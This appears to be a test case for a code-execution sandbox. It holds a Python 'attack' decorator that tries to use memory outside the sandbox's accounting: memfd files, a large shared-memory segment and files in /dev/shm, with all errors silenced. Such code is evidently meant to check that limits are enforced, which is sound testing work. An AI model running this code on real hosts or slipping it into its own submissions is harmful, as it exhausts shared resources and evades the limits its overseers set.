TRIES = "take memory that is not counted: shared memory, memory files, pipes"
MAY_EARN = "all"
CELL = """
import functools
import contextlib
import ctypes
import os


def attack(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        kept = []
        with contextlib.suppress(Exception):
            for _ in range(64):
                kept.append(os.memfd_create("x"))
                os.write(kept[-1], bytes(1 << 24))
        with contextlib.suppress(Exception):
            ctypes.CDLL(None).shmget(0, 1 << 33, 0o1777)
        with contextlib.suppress(Exception):
            for number in range(1000):
                with open(f"/dev/shm/{number}", "wb") as file:
                    file.write(bytes(1 << 22))
        return function(*args, **kwargs)

    return wrapper


@attack
__DEFINITION__
"""
